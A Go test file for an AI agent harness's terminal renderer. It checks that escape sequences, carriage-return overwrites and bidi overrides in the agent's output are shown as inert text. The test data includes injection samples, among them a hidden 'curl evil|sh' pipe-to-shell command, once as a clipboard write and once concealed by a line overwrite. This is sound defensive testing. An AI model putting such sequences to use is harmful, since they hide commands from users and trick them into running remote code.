package main

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"io"
	"log/slog"
	"strings"
	"testing"
	"testing/synctest"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/agyharness/agyharness/messages"
)

// terminalAttacks are texts agy could send that a terminal would act on,
// with how each must be shown instead.
var terminalAttacks = []struct{ name, text, shown string }{
	{"OSC 52 clipboard write", "\x1b]52;c;Y3VybCBldmlsfHNo\x07", "^[]52;c;Y3VybCBldmlsfHNo^G"},
	{"OSC 8 hidden link", "\x1b]8;;http://evil\x1b\\text\x1b]8;;\x1b\\", `^[]8;;http://evil^[\text^[]8;;^[\`},
	{"CSI 2J", "\x1b[2Jx", "^[[2Jx"},
	{"CR overwrite", "curl evil|sh\x1b[2K\rls -la", "curl evil|sh^[[2K^Mls -la"},
	{"C1 CSI", "\u009b2Jx", "<U+009B>2Jx"},
	{"bidi override", "ls \u202e-la", "ls <U+202E>-la"},
}

// renderedFields are the places agy's text reaches the screen, each as
// the events that carry a text there. exact is false where the renderer
// shortens the text (ids): only its safety is checked.
var renderedFields = []struct {
	name    string
	events  func(text string) []*messages.Event
	inexact bool
}{
	{"reply", func(s string) []*messages.Event {
		return []*messages.Event{{Type: messages.EventMessage, ItemID: "m1", Text: s}}
	}, false},
	{"streamed reply", func(s string) []*messages.Event {
		return []*messages.Event{{Type: messages.EventOutputTextDelta, ItemID: "m1", Delta: "> " + s}}
	}, false},
	{"rewritten reply", func(s string) []*messages.Event {
		return []*messages.Event{
			{Type: messages.EventOutputTextDelta, ItemID: "m1", Delta: "first"},
			{Type: messages.EventOutputTextDelta, ItemID: "m1", Snapshot: s},
		}
	}, false},
	{"reasoning", func(s string) []*messages.Event {
		return []*messages.Event{{Type: messages.EventReasoningDelta, ItemID: "r1", Delta: s}}
	}, false},
	{"turn typed in agy", func(s string) []*messages.Event {
		return []*messages.Event{{Type: messages.EventUserMessage, Origin: messages.OriginTerminal, Text: s}}
	}, false},
	{"command line of a call", func(s string) []*messages.Event {
		args, _ := json.Marshal(map[string]string{"command": s})
		return []*messages.Event{{Type: messages.EventFunctionCall, CallID: "c1", Name: "run_command", Arguments: string(args)}}
	}, false},
	{"arguments of a call", func(s string) []*messages.Event {
		args, _ := json.Marshal(map[string]string{"q": s})
		return []*messages.Event{{Type: messages.EventFunctionCall, CallID: "c1", Name: "some_tool", Arguments: string(args)}}
	}, true},
	{"raw arguments of a call", func(s string) []*messages.Event {
		return []*messages.Event{{Type: messages.EventFunctionCall, CallID: "c1", Name: "some_tool", Arguments: s}}
	}, false},
	{"tool name", func(s string) []*messages.Event {
		return []*messages.Event{{Type: messages.EventFunctionCall, CallID: "c1", Name: s}}
	}, false},
	{"title", func(s string) []*messages.Event {
		return []*messages.Event{{Type: messages.EventFunctionCall, CallID: "c1", Name: "view_file", Title: s}}
	}, false},
	{"command line to allow", func(s string) []*messages.Event {
		return []*messages.Event{
			{Type: messages.EventElicitationRequest, ElicitationID: "p1", Kind: messages.KindPermission, Command: &messages.CommandLine{Line: s}},
			{Type: messages.EventElicitationResolved, ElicitationID: "p1", Action: messages.ActionAccept},
		}
	}, false},
	{"cwd", func(s string) []*messages.Event {
		return []*messages.Event{{Type: messages.EventElicitationRequest, ElicitationID: "p1", Kind: messages.KindPermission,
			Command: &messages.CommandLine{Line: "ls", Cwd: s}}}
	}, false},
	{"resource to allow", func(s string) []*messages.Event {
		return []*messages.Event{
			{Type: messages.EventElicitationRequest, ElicitationID: "p1", Kind: messages.KindPermission, Resource: &messages.Resource{Action: s, Target: s}},
			{Type: messages.EventElicitationResolved, ElicitationID: "p1", Action: messages.ActionDecline},
		}
	}, false},
	{"command output", func(s string) []*messages.Event {
		return []*messages.Event{{Type: messages.EventFunctionCallOutput, CallID: "c1", Output: "ok\n" + s + "\n", ExitCode: messages.Ptr(0)}}
	}, false},
	{"streamed command output", func(s string) []*messages.Event {
		return []*messages.Event{
			{Type: messages.EventFunctionCall, CallID: "c1", Name: "run_command", Arguments: `{"command":"make"}`},
			{Type: messages.EventFunctionCallOutputDelta, CallID: "c1", Delta: "ok\n" + s + "\n" + s},
			{Type: messages.EventFunctionCallOutput, CallID: "c1", Output: "ok\n" + s + "\n" + s + "\n"},
		}
	}, false},
	{"output of an edit", func(s string) []*messages.Event {
		return []*messages.Event{{Type: messages.EventFunctionCallOutput, CallID: "c1", Output: s,
			Diffs: []messages.FileDiff{{Path: "/w/a", Unified: "+a\n"}}}}
	}, false},
	{"question text", func(s string) []*messages.Event {
		return []*messages.Event{
			{Type: messages.EventElicitationRequest, ElicitationID: "q1", Kind: messages.KindQuestion,
				Questions: []messages.Question{{Question: s, Options: []messages.Option{{ID: "1", Text: "yes"}}}}},
			{Type: messages.EventElicitationResolved, ElicitationID: "q1", Action: messages.ActionAccept},
		}
	}, false},
	{"option text", func(s string) []*messages.Event {
		return []*messages.Event{{Type: messages.EventElicitationRequest, ElicitationID: "q1", Kind: messages.KindQuestion,
			Questions: []messages.Question{{Question: "Which?", Options: []messages.Option{{ID: "1", Text: s}}}}}}
	}, false},
	{"file path of an edit", func(s string) []*messages.Event {
		return []*messages.Event{{Type: messages.EventFunctionCall, CallID: "c1", Name: "write_to_file", Title: "Edit",
			Diffs: []messages.FileDiff{{Path: s, NewText: "a\n"}}}}
	}, false},
	{"file path of a hit", func(s string) []*messages.Event {
		return []*messages.Event{{Type: messages.EventFunctionCallOutput, CallID: "c1", Kind: messages.ToolSearch,
			Hits: []messages.Hit{{Path: s, Line: 3, Text: "x"}, {Path: s}}}}
	}, false},
	{"text of a hit", func(s string) []*messages.Event {
		return []*messages.Event{{Type: messages.EventFunctionCallOutput, CallID: "c1", Kind: messages.ToolSearch,
			Hits: []messages.Hit{{Path: "/w/a", Line: 3, Text: s}}}}
	}, false},
	{"URL", func(s string) []*messages.Event {
		return []*messages.Event{{Type: messages.EventFunctionCallOutput, CallID: "c1", Kind: messages.ToolFetch, URL: s, Output: "x"}}
	}, false},
	{"agy's diff lines", func(s string) []*messages.Event {
		return []*messages.Event{{Type: messages.EventFunctionCall, CallID: "c1", Name: "replace_file_content",
			Diffs: []messages.FileDiff{{Path: "/w/a", Unified: " " + s + "\n-" + s + "\n+" + s + "\n"}}}}
	}, false},
	{"diffed texts", func(s string) []*messages.Event {
		return []*messages.Event{{Type: messages.EventFunctionCall, CallID: "c1", Name: "replace_file_content",
			Diffs: []messages.FileDiff{{Path: "/w/a", OldText: messages.Ptr(s + "\nold\n"), NewText: s + "\nnew\n", Line: 2}}}}
	}, false},
	{"diff of a permission", func(s string) []*messages.Event {
		return []*messages.Event{{Type: messages.EventElicitationRequest, ElicitationID: "p1", CallID: "c9", Kind: messages.KindPermission,
			Resource: &messages.Resource{Action: "write", Target: "/w/a"}, Diffs: []messages.FileDiff{{Path: s, NewText: s + "\n"}}}}
	}, false},
	{"error from agy", func(s string) []*messages.Event {
		return []*messages.Event{{Type: messages.EventError, Message: s}}
	}, false},
	{"model name", func(s string) []*messages.Event {
		return []*messages.Event{
			{Type: messages.EventModelChanged, From: s, To: "MODEL_B", DisplayName: s},
			{Type: messages.EventUsage, Model: s},
			{Type: messages.EventStatus, State: messages.StateIdle},
		}
	}, false},
	{"status", func(s string) []*messages.Event {
		return []*messages.Event{{Type: messages.EventStatus, State: s}}
	}, false},
	{"resolution", func(s string) []*messages.Event {
		return []*messages.Event{{Type: messages.EventElicitationResolved, ElicitationID: "x", Action: s}}
	}, false},
	{"unknown step type", func(s string) []*messages.Event {
		return []*messages.Event{{Type: messages.EventUnknownStep, StepType: s}}
	}, false},
	{"conversation ids", func(s string) []*messages.Event {
		return []*messages.Event{
			{Type: messages.EventConversationRotated, From: s, To: s},
			{Type: messages.EventMessage, ConversationID: s, ParentConversationID: "p", Text: "sub"},
		}
	}, true},
}

// palettes are the renderer's own styles, which alone may put an ESC on
// the screen.
func withoutOwnStyles(s string) string {
	p := newPalette(true)
	return strings.NewReplacer(p.dim, "", p.bold, "", p.cyan, "", p.red, "", p.yellow, "", p.green, "", p.reset, "").Replace(s)
}

// assertInert fails t when out holds anything a terminal would act on:
// a control character other than newline and tab, a C1 control, a
// bidirectional control, or bytes that are not UTF-8.
func assertInert(t *testing.T, out string) {
	t.Helper()
	if !utf8.ValidString(out) {
		t.Errorf("not valid UTF-8: %q", out)
	}
	for _, r := range out {
		if (unicode.Is(unicode.Cc, r) && r != '\n' && r != '\t') || unicode.Is(unicode.Bidi_Control, r) {
			t.Errorf("%U reaches the terminal: %q", r, out)
			return
		}
	}
}

func TestRenderShowsAgysControlCharactersVisibly(t *testing.T) {
	for _, f := range renderedFields {
		for _, a := range terminalAttacks {
			t.Run(f.name+"/"+a.name, func(t *testing.T) {
				for _, color := range []bool{false, true} {
					out := renderEvents(color, f.events(a.text)...)
					if color {
						out = withoutOwnStyles(out)
					}
					assertInert(t, out)
					if !f.inexact {
						assert.Contains(t, out, a.shown, "colour %v", color)
					}
				}
			})
		}
	}
}

// A reply streamed in two deltas, cut anywhere (inside an escape sequence,
// inside a multi-byte character), is shown as the whole reply is.
func TestRenderStreamedReplyCutAnywhere(t *testing.T) {
	texts := append([]string{"café 世界 🙂 \u202e ok"}, func() (ts []string) {
		for _, a := range terminalAttacks {
			ts = append(ts, a.text)
		}
		return ts
	}()...)
	for _, text := range texts {
		whole := renderEvents(false, &messages.Event{Type: messages.EventOutputTextDelta, ItemID: "m1", Delta: text})
		for cut := 1; cut < len(text); cut++ {
			for _, typ := range []messages.EventType{messages.EventOutputTextDelta, messages.EventReasoningDelta} {
				want := whole
				if typ == messages.EventReasoningDelta {
					want = "thinking: " + whole
				}
				got := renderEvents(false,
					&messages.Event{Type: typ, ItemID: "m1", Delta: text[:cut]},
					&messages.Event{Type: typ, ItemID: "m1", Delta: text[cut:]})
				assert.Equal(t, want, got, "%s %q cut at %d", typ, text, cut)
			}
		}
	}
	// An unfinished character at the end of a streamed item is shown as
	// its bytes when the next line starts.
	got := renderEvents(false,
		&messages.Event{Type: messages.EventOutputTextDelta, ItemID: "m1", Delta: "ok\xe2\x80"},
		&messages.Event{Type: messages.EventError, Message: "next"})
	assert.Equal(t, "ok\\xe2\\x80\nerror: next\n", got)
}

// The prompt hint repeats the question when there are several.
func TestPromptHintShowsTheQuestionVisibly(t *testing.T) {
	for _, a := range terminalAttacks {
		var b bytes.Buffer
		r := newRenderer(&b, false)
		p := &pendingPrompt{ev: &messages.Event{Kind: messages.KindQuestion, Questions: []messages.Question{
			{Question: a.text, AllowWriteIn: true}, {Question: "second"},
		}}}
		r.ask(p.hint())
		assertInert(t, b.String())
		assert.Contains(t, b.String(), a.shown)
	}
}

// An error that ends a command (launch's "agy exited ... its last output",
// an error agy answered) is printed as visibly as agy's events.
func TestCommandErrorShowsAgysTextVisibly(t *testing.T) {
	for _, a := range terminalAttacks {
		var errb bytes.Buffer
		e := &env{stdout: &bytes.Buffer{}, stderr: &errb, getenv: func(string) string { return "" }}
		code := exitCode(e, errors.New("launch: agy exited (status 3) before its language server was found; its last output:\n  "+a.text))
		assert.Equal(t, exitFailure, code)
		assertInert(t, errb.String())
		assert.Contains(t, errb.String(), a.shown)

		errb.Reset()
		exitCode(e, usagef("sim: %s", a.text))
		assertInert(t, errb.String())
		assert.Contains(t, errb.String(), a.shown)
	}
}

// The driver shows agy's text and a script's turns visibly, and sends
// what it sends (the turn, the answer) unchanged.
func TestDriverShowsTextVisiblyAndSendsItUnchanged(t *testing.T) {
	for _, a := range terminalAttacks {
		t.Run(a.name, func(t *testing.T) {
			synctest.Test(t, func(t *testing.T) {
				sess := newScriptedSession()
				inR, inW := io.Pipe()
				defer inW.Close()
				out := &syncBuffer{}
				turn := messages.Command{Type: messages.CommandTurn, Text: "run " + a.text}
				d := newDriver(driverConfig{interactive: true, turns: []messages.Command{turn}, exitAfterTurns: true, echoTurns: true, noTypedTurns: true},
					sess, out, inR, nil, slog.New(slog.DiscardHandler))
				done := make(chan error, 1)
				go func() { done <- d.run(context.Background()) }()

				synctest.Wait()
				require.Len(t, sess.commands(), 1)
				sess.push(messages.Event{Type: messages.EventUserMessage, Text: turn.Text, Origin: messages.OriginHarness})
				sess.push(messages.Event{Type: messages.EventElicitationRequest, ElicitationID: "p1", Kind: messages.KindPermission,
					Command: &messages.CommandLine{Line: a.text, Cwd: a.text}})
				synctest.Wait()
				require.Contains(t, out.String(), "allow? [y/n]")
				_, err := inW.Write([]byte("y\n"))
				require.NoError(t, err)
				synctest.Wait()
				require.Len(t, sess.commands(), 2)
				sess.push(messages.Event{Type: messages.EventElicitationResolved, ElicitationID: "p1", Action: messages.ActionAccept})
				sess.push(messages.Event{Type: messages.EventMessage, Text: a.text, ItemID: "m"})
				sess.push(messages.Event{Type: messages.EventStatus, State: messages.StateIdle})
				select {
				case err := <-done:
					require.NoError(t, err)
				case <-time.After(5 * time.Second):
					t.Fatal("the driver did not detach after the turn")
				}

				assert.Equal(t, []messages.Command{turn, {Type: messages.CommandResolve, ElicitationID: "p1", Action: messages.ActionAccept}}, sess.commands())
				screen := out.String()
				assertInert(t, screen)
				for _, want := range []string{"> run " + a.shown, "? agy wants to run: $ " + a.shown + "   (in " + a.shown + ")", "✓ allowed: $ " + a.shown} {
					assert.Contains(t, screen, want)
				}
			})
		})
	}
}

// --json prints agy's text as it came (JSON escapes it), not cleaned.
func TestJSONKeepsAgysTextAsItCame(t *testing.T) {
	for _, a := range terminalAttacks {
		sess := newScriptedSession()
		out := &syncBuffer{}
		d := newDriver(driverConfig{json: true}, sess, out, nil, nil, slog.New(slog.DiscardHandler))
		done := make(chan error, 1)
		go func() { done <- d.run(context.Background()) }()
		sess.push(messages.Event{Type: messages.EventMessage, Text: a.text, ItemID: "m"})
		require.NoError(t, sess.Detach(context.Background()))
		require.NoError(t, <-done)
		var ev messages.Event
		require.NoError(t, json.Unmarshal([]byte(out.String()), &ev))
		assert.Equal(t, a.text, ev.Text)
		assert.NotContains(t, out.String(), "\x1b")
	}
}

// An empty line in agy's diff (no " " before it) is drawn as context.
func TestRenderDiffWithAnEmptyLine(t *testing.T) {
	got := renderEvents(false, &messages.Event{Type: messages.EventFunctionCall, CallID: "c1", Name: "replace_file_content", Title: "Edit /w/a",
		Locations: []messages.Location{{Path: "/w/a"}}, Diffs: []messages.FileDiff{{Path: "/w/a", Line: 3, OldText: messages.Ptr("a\n\n"), Unified: "-a\n\n+b\r\n"}}})
	assert.Equal(t, "→ Edit /w/a\n  @@ -3,2 +3,2 @@\n  -a\n  \n  +b\n", got)
}

// Log lines need no cleaning: the text handler quotes a value that holds
// a control or a bidi character, escaping it.
func TestLogLinesQuoteAgysText(t *testing.T) {
	for _, a := range terminalAttacks {
		var errb bytes.Buffer
		log := newLogger(&env{stderr: &errb, getenv: func(string) string { return "" }})
		log.Warn("agy refused", "err", errors.New(a.text), "conversation", a.text)
		assertInert(t, errb.String())
		assert.Contains(t, errb.String(), "err=\"")
	}
}
